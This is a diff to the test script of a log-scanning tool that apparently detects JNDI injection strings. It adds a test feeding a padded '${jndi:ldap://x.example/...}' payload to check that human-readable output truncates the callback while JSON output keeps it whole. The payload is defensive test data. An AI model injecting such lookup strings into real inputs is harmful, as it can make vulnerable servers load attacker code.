@@ -42,6 +42,15 @@ expect_grep "1/1 files" err.txt "--progress shows files"
 expect_grep "MB/s" err.txt "--progress shows MB/s"
 "$DEFUSE" logs hit.log > /dev/null 2> err.txt
 [ -s err.txt ] && fail "progress without a terminal" || ok "no progress on a pipe by default"
+# a huge callback is cut for people, kept whole in JSON
+python3 -c 'print("${jndi:ldap://x.example/" + "A" * 5000 + "}")' > longcb.log
+"$DEFUSE" logs longcb.log > out.txt
+[ "$(wc -c < out.txt)" -lt 600 ] && ok "human line cut" || fail "human line not cut: $(wc -c < out.txt) bytes"
+expect_grep "...(5017 bytes)" out.txt "cut is announced with the full length"
+"$DEFUSE" logs --json longcb.log > out.json
+python3 -c '
+import json; r = json.loads(open("out.json").readline())
+assert r["callback"] == "ldap://x.example/" + "A" * 5000, len(r["callback"])' && ok "JSON keeps the whole callback" || fail "JSON callback cut"
 # several jobs give the same output as one
 for i in $(seq 1 20); do cp hit.log "h$i.log"; done
 "$DEFUSE" logs -j1 h*.log > one.txt; "$DEFUSE" logs -j2 h*.log > two.txt
